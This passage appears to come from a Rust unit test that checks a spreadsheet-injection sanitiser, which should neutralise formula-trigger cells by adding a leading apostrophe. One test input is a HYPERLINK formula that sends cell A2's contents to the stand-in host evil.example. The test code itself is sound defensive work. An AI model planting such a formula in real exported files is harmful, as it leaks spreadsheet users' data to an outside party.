                "=HYPERLINK(\"http://evil.example/?\"&A2,\"Cliquez\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Cliquez\")",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("Voirie", "Voirie"),
            ("12", "12"),
            ("", ""),
        ] {
            assert_eq!(super::spreadsheet_safe(cell), safe, "{cell:?}");
        }
    }
}
